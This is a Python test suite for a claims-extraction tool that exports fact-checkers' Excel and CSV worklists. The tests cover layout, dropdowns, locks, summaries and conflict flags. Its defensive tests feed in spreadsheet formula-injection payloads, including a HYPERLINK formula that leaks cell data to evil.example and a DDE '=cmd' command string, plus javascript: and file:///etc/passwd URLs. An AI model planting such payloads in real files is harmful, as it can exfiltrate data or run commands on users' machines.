"""The Excel worklist as a fact-checker opens it: sheets, columns, dropdowns, locks, and no formulas."""

from __future__ import annotations

import datetime as dt
import json
import re
import shutil
import subprocess
from collections import Counter
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.cell.rich_text import CellRichText
from typer.testing import CliRunner

from claims.cli import app
from claims.ledger.db import Ledger
from claims.worklist.reader import export_id_of
from claims.worklist.rows import HEADERS

SEED = Path(__file__).resolve().parents[1] / "articles" / "upi-north-korea-russia-anniversary.txt"

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1 rose by 30%",
    "-5% was the fall in 2020",
    "@SUM(A1) is not a formula",
    "\t=1+1 in a tab",
]


def _extract(tmp_path: Path, articles: list[dict], name: str = "worklist.xlsx") -> Path:
    source = tmp_path / "articles.jsonl"
    source.write_text("\n".join(json.dumps(a) for a in articles) + "\n", encoding="utf-8")
    out = tmp_path / name
    result = CliRunner().invoke(app, ["extract", str(source), "--output", str(out), "--quiet"])
    assert result.exit_code == 0, result.output
    return out


@pytest.fixture(scope="module")
def seed_workbook(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("seed")
    out = folder / "worklist.xlsx"
    seed = Path(__file__).resolve().parents[1] / "articles" / "upi-north-korea-russia-anniversary.txt"
    result = CliRunner().invoke(app, ["extract", str(seed), "--output", str(out), "--quiet"])
    assert result.exit_code == 0, result.output
    return out


def _rows(ws) -> list[dict[str, object]]:
    header = [c.value for c in ws[1]]
    return [dict(zip(header, (c.value for c in row))) for row in ws.iter_rows(min_row=2)]


def test_sheets_columns_and_layout(seed_workbook):
    wb = load_workbook(seed_workbook, rich_text=True)
    assert wb.sheetnames == ["Claims", "Articles", "Summary", "Guide"]
    ws = wb["Claims"]
    assert tuple(c.value for c in ws[1]) == HEADERS
    # the reviewer's columns next to the claim, the machine's detail after; frozen after the claim
    assert HEADERS[:9] == (
        "ID",
        "Priority",
        "Claim",
        "Status",
        "Verdict",
        "Notes",
        "Evidence",
        "Assigned to",
        "Checked on",
    )
    assert HEADERS[9:15] == ("Context", "Value", "Said by", "Via", "Flags", "Why")
    assert ws.freeze_panes == "D2"
    # filter buttons on every column: an autofilter, since XlsxWriter's constant-memory mode cannot write an Excel table
    assert ws.auto_filter.ref == f"A1:V{ws.max_row}"
    hidden = [c for c in "ABCDEFGHIJKLMNOPQRSTUV" if ws.column_dimensions[c].hidden]
    assert hidden == ["U", "V"]
    assert (ws["U1"].value, ws["V1"].value) == ("claim_id", "checksum")
    props = {p.name: p.value for p in wb.custom_doc_props}
    export_id = props.pop("claims_export_id")
    # the ledger it was exported with (issue 14): its id, and its path relative to the workbook and absolute
    ledger = seed_workbook.parent / "ledger.sqlite"
    with Ledger(ledger) as store:
        ledger_id = store.ledger_id
    assert props == {
        "claims_ledger_id": ledger_id,
        "claims_ledger": "ledger.sqlite",
        "claims_ledger_path": str(ledger.resolve()),
    }
    assert re.fullmatch(r"\d{8}T\d{6}Z-[0-9a-f]{8}", export_id)
    assert wb.properties.keywords == f"claims-export:{export_id}"
    assert export_id_of(wb) == export_id
    created = wb.properties.created
    assert abs((dt.datetime.now(dt.UTC).replace(tzinfo=None) - created).total_seconds()) < 3600


def test_rows_sorted_by_priority_and_money_row(seed_workbook):
    rows = _rows(load_workbook(seed_workbook)["Claims"])
    priorities = [r["Priority"] for r in rows]
    assert priorities == sorted(priorities, reverse=True)
    money = next(r for r in rows if "$500 million" in r["Claim"])
    assert money["Type"] == "quantity"
    assert money["Value"] == "> 500,000,000 USD per year"
    assert money["Said by"] == "United States (government)"
    assert money["Via"] == "The Washington Post report, Sunday"
    assert money["Para"] == 11
    assert money["Article"] == "North Korea highlights ‘deepening friendship’ with Russia on anniversary"


def test_dropdowns_colours_and_locks(seed_workbook):
    ws = load_workbook(seed_workbook)["Claims"]
    last = ws.max_row + 500  # rows a checker adds stay validated
    lists = {dv.formula1: str(dv.sqref) for dv in ws.data_validations.dataValidation}
    assert lists == {
        '"To check,In progress,Done,Not checkable"': f"D2:D{last}",
        '"Accurate,Mostly accurate,Misleading,Inaccurate,Unverifiable"': f"E2:E{last}",
    }
    rules = {(str(r.sqref), rule.formula[0]): rule for r in ws.conditional_formatting for rule in r.rules}
    assert rules[(f"A2:V{last}", '$E2="Inaccurate"')].dxf.fill.fgColor.rgb == "FFFFC7CE"
    assert not any("SEARCH" in formula for _, formula in rules)  # no flag is found by searching its words
    assert ws.protection.sheet is True and ws.protection.password is None
    header = [c.value for c in ws[1]]
    for column, cell in zip(header, ws[2]):
        reviewer = column in ("Status", "Verdict", "Assigned to", "Evidence", "Notes", "Checked on")
        assert cell.protection.locked is not reviewer, column


def _summary_tables(ws) -> dict[str, dict[str, tuple[int, float]]]:
    """The Summary sheet's tables: {title: {name: (claims, share)}}, read from columns A to C."""
    cells = [[c.value for c in row] for row in ws.iter_rows(max_col=3)]
    tables: dict[str, dict[str, tuple[int, float]]] = {}
    current = None
    for name, claims, share in cells[2:]:
        if claims == "Claims":
            current = tables.setdefault(name, {})
        elif name is None:
            current = None
        elif current is not None:
            current[name] = (claims, share)
    return tables


def test_summary_shows_progress_and_counts_beside_its_charts(seed_workbook):
    wb = load_workbook(seed_workbook)
    claims = _rows(wb["Claims"])
    ws = wb["Summary"]
    tables = _summary_tables(ws)
    assert list(tables) == ["Progress", "Verdict", "Status", "Type"]
    assert tables["Progress"] == {"Reviewed (has a verdict)": (0, 0), "To check": (len(claims), 1)}
    # every verdict of the list, none given yet; "(not set)" is no verdict and has no bar
    assert tables["Verdict"] == {
        v: (0, 0) for v in ("Accurate", "Mostly accurate", "Misleading", "Inaccurate", "Unverifiable")
    }
    assert tables["Status"]["(not set)"] == (len(claims), 1)
    assert {t: n for t, (n, _) in tables["Type"].items()} == dict(Counter(r["Type"] for r in claims))
    charts = ws._charts
    assert [c.title.tx.rich.p[0].r[0].t for c in charts] == ["Progress", "Reviewed claims by verdict"]
    # the charts start at column E; the text stays in columns A to C
    assert all(c.anchor._from.col >= 4 for c in charts)
    assert [c.coordinate for row in ws.iter_rows(min_col=4) for c in row if c.value is not None] == []
    verdict_row = next(r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value == "Verdict") + 1
    assert charts[1].series[0].cat.numRef.f == f"'Summary'!$A${verdict_row}:$A${verdict_row + 4}"


def test_summary_counts_reviews_by_verdict(tmp_path):
    from claims.config import Settings
    from claims.model import Article, Claim, Review
    from claims.worklist.rows import WorklistRow
    from claims.worklist.xlsx import write_workbook

    article = Article(id="a1", text="", title="T")
    marks = [("Done", "Accurate"), ("Done", "Inaccurate"), ("In progress", None), (None, None), ("Done", "Accurate")]
    rows = []
    for n, (status, verdict) in enumerate(marks):
        claim = Claim("a1", f"c{n}", "quantity", f"{n} ships", 0, 7, 0, 7, "r", sentence=f"{n} ships sailed.")
        rows.append(WorklistRow(claim, article, review=Review(claim.claim_id, status=status, verdict=verdict)))
    out = tmp_path / "reviewed.xlsx"
    write_workbook(out, rows, [article], Settings(), "e1")
    tables = _summary_tables(load_workbook(out)["Summary"])
    assert tables["Progress"] == {"Reviewed (has a verdict)": (3, 0.6), "To check": (2, 0.4)}
    assert tables["Verdict"]["Accurate"] == (2, 2 / 3) and tables["Verdict"]["Inaccurate"] == (1, 1 / 3)
    assert tables["Verdict"]["Misleading"] == (0, 0)
    assert tables["Status"] == {
        "To check": (0, 0),
        "In progress": (1, 0.2),
        "Done": (3, 0.6),
        "Not checkable": (0, 0),
        "(not set)": (1, 0.2),
    }


def test_guide_lists_columns_and_verdict_meanings(seed_workbook):
    guide = {row[0]: row[1] for row in load_workbook(seed_workbook)["Guide"].iter_rows(values_only=True)}
    assert guide["Inaccurate"] == "The claim is false."
    assert guide["Status values"] == "To check, In progress, Done, Not checkable"
    assert "previously checked" in guide["Flags"]
    assert guide["Export id"] == export_id_of(load_workbook(seed_workbook))


def test_context_highlights_the_claim(seed_workbook):
    wb = load_workbook(seed_workbook, rich_text=True)
    ws = wb["Claims"]
    header = [c.value for c in ws[1]]
    context_col = header.index("Context")
    claim_col = header.index("Claim")
    ranking = "Russia was one of the top destinations for North Korean forced laborers before international sanctions banned the practice."
    row = next(r for r in ws.iter_rows(min_row=2) if r[claim_col].value == ranking)
    context = row[context_col].value  # the paragraph's two sentences, the claim's in bold
    assert isinstance(context, CellRichText)
    bold = [block.text for block in context if hasattr(block, "font") and block.font.b]
    assert bold == [ranking]
    assert (
        str(context)
        == ranking
        + " The laborers often were sent to work in labor-intensive industries to earn foreign currency for the regime."
    )


def test_no_formula_cells_even_for_formula_like_text(tmp_path):
    text = "Formula test\n\n" + "\n\n".join(f"{line} said the agency." for line in DANGEROUS)
    out = _extract(tmp_path, [{"id": "danger", "title": "=cmd|' /C calc'!A0", "text": text}])
    wb = load_workbook(out)
    formula_cells = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formula_cells == []
    titles = [c.value for c in wb["Articles"]["A"]]
    assert "=cmd|' /C calc'!A0" in titles
    contexts = [c.value for c in wb["Claims"]["J"]]  # the Claim column shows the claim as checked, speaker first
    assert wb["Claims"]["J1"].value == "Context"
    assert "@SUM(A1) is not a formula said the agency." in contexts and "+1 rose by 30% said the agency." in contexts
    starting = [
        c
        for ws in wb
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))
    ]
    assert starting and all(c.quotePrefix for c in starting)


def test_control_characters_and_long_text(tmp_path):
    long_paragraph = "The budget rose 4% in 2020. " * 1500
    text = "Bad \x07bytes\x0b here: 5 people were hurt in 2019.\n\n" + long_paragraph
    out = _extract(tmp_path, [{"id": "ctrl", "text": text}])
    ws = load_workbook(out)["Claims"]
    values = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not any("\x07" in v or "\x0b" in v for v in values)
    assert all(len(v) <= 32767 for v in values)


def test_libreoffice_converts_the_workbook(seed_workbook, tmp_path):
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("LibreOffice is not installed (.ci/run installs libreoffice-calc-nogui)")
    result = subprocess.run(
        [office, "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(seed_workbook)],
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert result.returncode == 0, result.stderr
    pdf = tmp_path / "worklist.pdf"
    assert pdf.exists() and pdf.stat().st_size > 1000


def _claim_rows(path: Path) -> list[dict[str, object]]:
    return _rows(load_workbook(path)["Claims"])


def test_text_over_the_cell_limit_is_cut_visibly_and_bad_characters_dropped(tmp_path):
    from claims.config import Settings
    from claims.model import Article, Claim
    from claims.worklist.rows import WorklistRow
    from claims.worklist.xlsx import write_workbook

    sentence = "Officials said 5 people were hurt " + "and so on " * 4000 + "in 2019."
    article = Article(id="a1", text=sentence, title="Bad \x07bell \ud800 title")
    claim = Claim(
        article_id="a1",
        claim_id="c1",
        type="quantity",
        text="5 people",
        start=14,
        end=22,
        sentence_start=0,
        sentence_end=len(sentence),
        rule_id="r",
        sentence=sentence,
    )
    out = tmp_path / "long.xlsx"
    write_workbook(out, [WorklistRow(claim, article)], [article], Settings(), "e1")
    wb = load_workbook(out)
    context = wb["Claims"]["J2"].value
    assert len(sentence) == 40042
    assert len(context) <= 32767
    assert context.endswith(" … [cut: 40,042 characters, the first 32,703 shown]")
    assert context.startswith("Officials said 5 people were hurt and so on")
    assert wb["Articles"]["A2"].value == "Bad bell  title"


def test_only_http_links_become_hyperlinks(tmp_path):
    text = "Title\n\nThe city spent $5 million on roads in 2020, the mayor said."
    out = _extract(
        tmp_path,
        [
            {"id": "web", "title": "Web", "url": "https://news.example/roads", "text": text},
            {"id": "js", "title": "Script", "url": "javascript:alert(1)", "text": text + " Again."},
            {"id": "file", "title": "Local", "url": "file:///etc/passwd", "text": text + " Once more."},
        ],
    )
    ws = load_workbook(out)["Articles"]
    links = {
        row[0].value: (row[3].value, row[3].hyperlink.target if row[3].hyperlink else None)
        for row in ws.iter_rows(min_row=2)
    }
    assert links == {
        "Web": ("https://news.example/roads", "https://news.example/roads"),
        "Script": ("javascript:alert(1)", None),
        "Local": ("file:///etc/passwd", None),
    }
    claims_ws = load_workbook(out)["Claims"]
    header = [c.value for c in claims_ws[1]]
    article_col = header.index("Article")
    targets = {row[article_col].hyperlink.location for row in claims_ws.iter_rows(min_row=2)}
    assert targets <= {"'Articles'!A2", "'Articles'!A3", "'Articles'!A4"}


def test_csv_format_has_the_worklist_columns_and_no_formulas(tmp_path, seed_workbook):
    import csv

    text = "Formula test\n\n" + "\n\n".join(f"{line} said the agency." for line in DANGEROUS)
    source = tmp_path / "danger.jsonl"
    source.write_text(json.dumps({"id": "danger", "text": text}) + "\n", encoding="utf-8")
    out = tmp_path / "worklist.csv"
    result = CliRunner().invoke(app, ["extract", str(source), "--format", "csv", "--output", str(out), "--quiet"])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == list(HEADERS)
    contexts = {r["Context"] for r in rows}
    assert "'@SUM(A1) is not a formula said the agency." in contexts and "'+1 rose by 30% said the agency." in contexts
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())

    seed_csv = tmp_path / "seed.csv"
    result = CliRunner().invoke(
        app, ["extract", str(SEED), "--format", "csv", "--output", str(seed_csv), "--quiet", "--no-ledger"]
    )
    with seed_csv.open(encoding="utf-8", newline="") as handle:
        money = next(r for r in csv.DictReader(handle) if "$500 million" in r["Claim"])
    assert (money["Value"], money["Said by"]) == ("> 500,000,000 USD per year", "United States (government)")
    assert len(_claim_rows(seed_workbook)) == sum(1 for _ in seed_csv.open(encoding="utf-8")) - 1


def test_statuses_and_verdicts_come_from_claims_toml(tmp_path):
    config = tmp_path / "claims.toml"
    config.write_text(
        '[worklist]\nstatuses = ["Open", "Closed"]\nverdicts = ["True", "Half true", "False"]\n', encoding="utf-8"
    )
    out = tmp_path / "worklist.xlsx"
    result = CliRunner().invoke(app, ["extract", str(SEED), "--output", str(out), "--quiet", "--config", str(config)])
    assert result.exit_code == 0, result.output
    wb = load_workbook(out)
    ws = wb["Claims"]
    assert {dv.formula1 for dv in ws.data_validations.dataValidation} == {'"Open,Closed"', '"True,Half true,False"'}
    fills = {rule.formula[0]: rule.dxf.fill.fgColor.rgb for r in ws.conditional_formatting for rule in r.rules}
    assert fills['$E2="True"'] == "FFC6EFCE" and fills['$E2="False"'] == "FFFFEB9C"
    guide = {row[0]: row[1] for row in wb["Guide"].iter_rows(values_only=True)}
    assert guide["Status values"] == "Open, Closed" and "Half true" in guide


@pytest.mark.parametrize(
    "body, message",
    [
        ('verdicts = ["True", "True, mostly"]', "worklist.verdicts: 'True, mostly' contains a comma or a double quote"),
        ('statuses = ["Open", "open"]', "worklist.statuses lists the same value twice"),
        ("verdicts = []", "worklist.verdicts must be a non-empty list of strings"),
        (
            'verdicts = ["' + '", "'.join(f"Verdict number {i}" for i in range(20)) + '"]',
            "worklist.verdicts is too long for a spreadsheet dropdown",
        ),
    ],
)
def test_bad_lists_in_claims_toml_are_one_clear_line(tmp_path, body, message):
    config = tmp_path / "claims.toml"
    config.write_text(f"[worklist]\n{body}\n", encoding="utf-8")
    result = CliRunner().invoke(
        app, ["extract", str(SEED), "--output", str(tmp_path / "w.xlsx"), "--config", str(config)]
    )
    assert result.exit_code == 1
    assert result.output.startswith(f"error: {config}: {message}")
    assert len(result.output.strip().splitlines()) == 1


def test_the_same_claim_in_two_articles_is_one_row_with_both_sources(tmp_path):
    wire = "The ministry said exports rose 12% in 2023 to $40 billion."
    out = _extract(
        tmp_path,
        [
            {"id": "wire-a", "title": "Exports up (Agency A)", "outlet": "Agency A", "text": "Exports up\n\n" + wire},
            {
                "id": "wire-b",
                "title": "Exports rise (Paper B)",
                "outlet": "Paper B",
                "text": "Exports rise\n\nTrade news.\n\n" + wire,
            },
        ],
    )
    rows = _claim_rows(out)
    money = [r for r in rows if "$40 billion" in r["Claim"]]
    assert len(money) == 1
    assert money[0]["Article"] == "Exports up (Agency A)\nExports rise (Paper B)"
    assert money[0]["Context"] == wire
    articles = {r[0]: r[5] for r in load_workbook(out)["Articles"].iter_rows(min_row=2, values_only=True)}
    assert articles == {"Exports up (Agency A)": len(rows), "Exports rise (Paper B)": len(rows)}


def test_figures_that_cannot_both_be_true_are_flagged_across_articles(tmp_path):
    out = _extract(
        tmp_path,
        [
            {"id": "one", "title": "Seed", "text": SEED.read_text(encoding="utf-8")},
            {
                "id": "two",
                "title": "Labour exports shrink",
                "text": "Labour exports shrink\n\nNorth Korea earned about $200 million a year from its overseas labor force before "
                "sanctions, a defector group said.",
            },
            {
                "id": "three",
                "title": "Budget",
                "text": "Budget\n\nThe city of Chicago spent about $200 million a year on road repairs, "
                "the mayor said.",
            },
        ],
    )
    rows = {
        next((k for k in ("$500 million", "$200 million a year from") if k in r["Claim"]), r["Claim"]): r
        for r in _claim_rows(out)
    }
    seed_id = rows["$500 million"]["ID"]
    other_id = rows["$200 million a year from"]["ID"]
    assert rows["$500 million"]["Flags"] == (
        f"conflicting figure: 'Labour exports shrink' gives ~ 200,000,000 USD per year (claim {other_id})"
    )
    flagged = [r for r in rows.values() if r["Flags"] and "conflicting figure" in r["Flags"]]
    assert {r["Article"] for r in flagged} == {"Seed", "Labour exports shrink"}  # the Chicago budget is another measure
    assert (
        f"gives > 500,000,000 USD per year (claim {seed_id})"
        in next(r for r in flagged if r["Article"] != "Seed")["Flags"]
    )


def test_fast_claims_rows_are_byte_for_byte_what_xlsxwriter_writes(tmp_path, monkeypatch):
    """The Claims rows written straight into XlsxWriter's row file equal those of its public methods, every part."""
    import zipfile

    from claims.config import Settings
    from claims.model import Article, Claim, Flag, FlagKind, Review, Source
    from claims.worklist import xlsx
    from claims.worklist.rows import WorklistRow

    monkeypatch.setattr(xlsx, "HYPERLINK_LIMIT", 9)  # some rows past the limit: their Article cell is plain text
    articles = [
        Article(id="a1", text="", title="=cmd|' /C calc'!A0", outlet="Out & About", url="https://x.example/?a=1&b=<2>"),
        Article(id="a2", text="", title="  Spaced title  ", outlet=None),
        Article(id="a3", text="", title="Bell \x07 and _x0041_ and 😀 non-BMP"),
    ]
    sentences = [
        ("Officials said 5 people were hurt in 2019.", "5 people"),
        ("5 people were hurt, officials said.", "5 people"),  # the claim opens the sentence
        ("Officials said it was 5 people", "5 people"),  # the claim closes it
        ("5 people", "5 people"),  # the claim is the whole sentence
        ('=SUM(A1) rose to 5 people & <more> "quoted"', "5 people"),
        ("-5% was the fall in 2020 ", "-5%"),
        ("  Leading spaces, 7 items\tand a tab\r\nand a newline _x0041_ escape\x0b", "7 items"),
        ("Emoji 😀 then 9 cars 😀", "9 cars"),
        ("The claim is not in this sentence.", "12 ships"),
        ("", "3 boats"),
        ("A long one " + "and so on " * 4000 + "with 8 trains.", "8 trains"),
        ("Trailing space after the claim 4 dogs ", "4 dogs "),
    ]
    rows = []
    for n in range(24):
        sentence, text = sentences[n % len(sentences)]
        article = articles[n % len(articles)]
        source = (
            None
            if n % 3 == 0
            else Source(
                text="the Ministry",
                start=None,
                end=None,
                name="Ministry of <Finance>",
                kind="government",
                via=[Source(text=None, start=None, end=None, name="AP & Co", kind="publication")],
            )
        )
        claim = Claim(
            article_id=article.id,
            claim_id=f"c{n:015d}",
            type=["money", "quantity", "date"][n % 3],
            text=text,
            start=0,
            end=len(text),
            sentence_start=0,
            sentence_end=len(sentence),
            rule_id="r.x",
            score=[0.91, 0.123456789, 0.0, 1.0][n % 4],
            source=source,
            reasons=[("figure", 1.6)],
            flags=[Flag.parse("=flag"), Flag.parse("plain flag")][: n % 3],
            paragraph=None if n % 5 == 0 else n,
            sentence=sentence,
        )
        review = (
            None
            if n % 2
            else Review(
                claim.claim_id, status="Done", verdict="Accurate", notes=" =note with & ", checked_on="2024-01-02"
            )
        )
        rows.append(
            WorklistRow(
                claim,
                article,
                review=review,
                extra_flags=[Flag(FlagKind.PREVIOUSLY_CHECKED, "x")] if n % 4 == 1 else [],
                why="figure",
                low_priority=n % 4 == 2,
                group="g1" if n % 6 == 0 else "",
                duplicates=[(claim, articles[(n + 1) % 3])] if n % 7 == 0 else [],
            )
        )
    import xlsxwriter

    probe = xlsxwriter.Workbook(str(tmp_path / "probe.xlsx"), xlsx._OPTIONS)
    assert xlsx._FastRows.usable(probe.add_worksheet())  # else both files would come from the public methods
    probe.close()
    parts = {}
    for fast in (True, False):
        out = tmp_path / f"fast-{fast}.xlsx"
        assert xlsx.write_workbook(out, rows, articles, Settings(), "e1", fast=fast) == len(rows)
        with zipfile.ZipFile(out) as z:
            parts[fast] = {
                name: z.read(name) for name in z.namelist() if name != "docProps/core.xml"
            }  # core.xml: the time written
    assert parts[True].keys() == parts[False].keys()
    for name in parts[False]:
        assert parts[True][name] == parts[False][name], name
    assert b"<hyperlinks>" in parts[True]["xl/worksheets/sheet1.xml"]


def test_claims_whose_scores_both_round_to_1_are_ordered_by_their_signals():
    from claims.config import Settings
    from claims.model import Article, Claim
    from claims.ruleset import cached_rules
    from claims.score import Scorer
    from claims.worklist.plan import plan_worklist

    first = Article(id="a1", text="In 2019 the ministry said 5 people were hurt.", title="One")
    second = Article(id="a2", text="The agency said unemployment fell 2.1% to 4.5% in March 2020.", title="Two")

    def claim(article: Article, claim_id: str, text: str, reasons: list[tuple[str, float]]) -> Claim:
        start = article.text.index(text)
        return Claim(
            article_id=article.id,
            claim_id=claim_id,
            type="quantity",
            text=text,
            start=start,
            end=start + len(text),
            sentence_start=0,
            sentence_end=len(article.text),
            rule_id="r",
            score=1.0,
            reasons=reasons,
            sentence=article.text,
        )

    claims = [
        claim(first, "c1", "5 people", [("figure", 3.0), ("past_event", 3.0)]),
        claim(second, "c2", "2.1%", [("figure", 3.0), ("past_event", 3.0), ("percent", 2.0), ("date", 1.0)]),
        claim(second, "c3", "4.5%", [("figure", 3.0), ("past_event", 3.0)]),
    ]
    plan = plan_worklist(claims, [first, second], Settings(), None, Scorer(cached_rules(None).lexicon("scoring")))
    assert [row.claim.claim_id for row in plan.rows()] == ["c2", "c1", "c3"]  # then article order, then position


def test_why_names_the_three_strongest_signals_and_counts_the_others(seed_workbook):
    from claims.ruleset import cached_rules
    from claims.score import Scorer
    from claims.worklist.plan import strongest_signals

    scorer = Scorer(cached_rules(None).lexicon("scoring"))
    reasons = [("date", 0.44), ("figure", 1.0), ("opinion", -0.9), ("named_entity", 0.4), ("percent", 1.35)]
    assert strongest_signals(scorer, reasons) == "percentage + figure − opinion (+2 more)"
    assert strongest_signals(scorer, reasons[:2]) == "figure + date"
    for row in _rows(load_workbook(seed_workbook)["Claims"]):
        named = row["Why"].removesuffix(" (low priority)").partition(" (+")[0]
        assert 1 <= len(re.split(" [+−] ", named)) <= 3, row["Why"]


def test_the_guide_explains_every_column_the_reviewer_sees(seed_workbook):
    from claims.worklist.rows import COLUMNS

    keys = {row[0] for row in load_workbook(seed_workbook)["Guide"].iter_rows(values_only=True) if row[0]}
    named = {part for key in keys for part in key.split(" / ")}
    unexplained = [c.header for c in COLUMNS if not c.hidden and not c.reviewer and c.header not in named]
    assert unexplained == []
    assert "Status … Checked on" in keys  # the reviewer's columns, together
